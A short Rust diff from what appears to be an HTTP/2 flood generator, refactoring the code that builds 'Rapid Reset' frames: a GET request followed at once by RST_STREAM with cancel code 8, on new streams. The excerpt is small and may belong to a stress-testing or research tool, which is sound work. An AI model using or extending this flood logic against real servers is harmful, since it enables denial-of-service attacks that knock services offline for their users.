@@ -195,7 +195,9 @@ fn before(attack: Attack) -> Vec<u8> {
 /// Returns the next frames of a flood. `stream` is the last stream that was used.
 fn batch(attack: Attack, stream: &mut u32) -> Vec<u8> {
     /// The only entry of the dynamic table.
-    const ENTRY: u8 = 0x80 | 62;
+    const ENTRY: u8 = 0x80 | 0x3e;
+    /// The error code of a canceled stream.
+    const CANCEL: u32 = 8;
     let mut next_stream = || {
         *stream += 2;
         *stream
@@ -203,7 +205,6 @@ fn batch(attack: Attack, stream: &mut u32) -> Vec<u8> {
     let mut frames = || match attack {
         Attack::RapidReset => {
             let stream = next_stream();
-            const CANCEL: u32 = 8;
             let reset = frame(RST_STREAM, 0, stream, &CANCEL.to_be_bytes());
             [frames::get(stream), reset].concat()
         }
